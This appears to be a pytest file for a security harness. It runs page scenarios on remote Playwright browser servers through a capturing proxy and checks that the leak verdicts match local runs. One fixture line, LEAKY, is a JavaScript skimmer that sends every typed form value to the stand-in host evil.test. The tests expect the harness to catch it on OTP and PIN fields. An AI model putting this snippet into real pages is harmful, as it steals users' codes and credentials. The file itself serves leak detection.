"""Remote browsers: scenarios run on Playwright browser servers (`playwright run-server`, shipped with the Python
package's driver) started on loopback as subprocesses, with the capturing proxy here, and get the verdicts a local
run gives."""

from __future__ import annotations

import io
import json
import os
import signal
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from harness.cli import ExitStatus, main

SCENARIOS = Path(__file__).resolve().parent.parent / "scenarios"
LEAKY = "addEventListener('input', (e) => navigator.sendBeacon('https://evil.test/k', e.target.value), true);\n"
# What a local run of these gives with LEAKY (tests/test_shards.py compares sharded with local runs the same way).
EXPECTED = {
    "home_browse": ("inconclusive", set()),  # nothing typed, so the leaky snippet sends nothing
    "verify_code": ("failed", {("never-sent", "#otp"), ("never-sent", "#pin")}),
}


def _free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return int(probe.getsockname()[1])


def _server() -> tuple[subprocess.Popen[bytes], str]:
    port = _free_port()
    process = subprocess.Popen(
        [sys.executable, "-m", "playwright", "run-server", "--host", "127.0.0.1", "--port", str(port), "--unsafe"],
        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True,
    )
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        with socket.socket() as probe:
            if probe.connect_ex(("127.0.0.1", port)) == 0:
                return process, f"ws://127.0.0.1:{port}/"
        time.sleep(0.1)
    os.killpg(process.pid, signal.SIGKILL)
    raise AssertionError("playwright run-server did not listen within 60 s")


@pytest.fixture
def servers() -> Iterator[list[str]]:
    started = [_server(), _server()]
    yield [endpoint for _, endpoint in started]
    for process, _ in started:
        os.killpg(process.pid, signal.SIGTERM)
        process.wait(timeout=30)


def _run(tmp_path: Path, *extra: str) -> tuple[int, str]:
    snippet = tmp_path / "leaky.js"
    snippet.write_text(LEAKY)
    out, err = io.StringIO(), io.StringIO()
    status = main(["run", str(SCENARIOS / "home_browse.yaml"), str(SCENARIOS / "verify_code.yaml"),
                   "--snippet", str(snippet), "--report", str(tmp_path / "report"), "--observation-window", "2",
                   *extra], out, err)
    return status, out.getvalue() + err.getvalue()


def test_scenarios_run_on_browser_servers_with_the_verdicts_of_local_runs(tmp_path: Path, servers: list[str]) -> None:
    status, output = _run(tmp_path, "--browser", "chromium", "--browser", "firefox", "-j", "2",
                          "--connect", servers[0], "--connect", servers[1], "--proxy-host", "127.0.0.1")
    assert status == ExitStatus.CHECK_FAILED, output
    runs = json.loads((tmp_path / "report" / "results.json").read_text())["runs"]
    assert sorted((r["slug"], r["browser"]) for r in runs) == [
        ("home_browse", "chromium"), ("home_browse", "firefox"), ("verify_code", "chromium"), ("verify_code", "firefox")
    ]
    for run in runs:
        found = {(f["rule"], f["field"]) for f in run["findings"]}
        assert (run["status"], found) == EXPECTED[run["slug"]], (run["slug"], run["browser"], run["error"])
        assert run["requests"] > 0  # the remote browser's traffic came through the proxy here


def test_a_browser_server_that_is_not_there_is_an_environment_error(tmp_path: Path) -> None:
    status, output = _run(tmp_path, "--browser", "chromium", "--connect", f"ws://127.0.0.1:{_free_port()}/")
    assert status == ExitStatus.ENVIRONMENT, output
    assert "on the browser server ws://127.0.0.1:" in output and "playwright run-server" in output
    assert "Traceback" not in output


@pytest.mark.parametrize(("flag", "value"), [("--connect", "http://grid/"), ("--proxy-host", "10.0.0.5/24")])
def test_bad_remote_options_are_one_line_usage_errors(flag: str, value: str) -> None:
    out, err = io.StringIO(), io.StringIO()
    assert main(["run", str(SCENARIOS / "home_browse.yaml"), flag, value], out, err) == ExitStatus.INVALID_INPUT
    key = flag.lstrip("-").replace("-", "_")
    assert len(err.getvalue().splitlines()) == 1 and f"'{key}' must be" in err.getvalue(), err.getvalue()
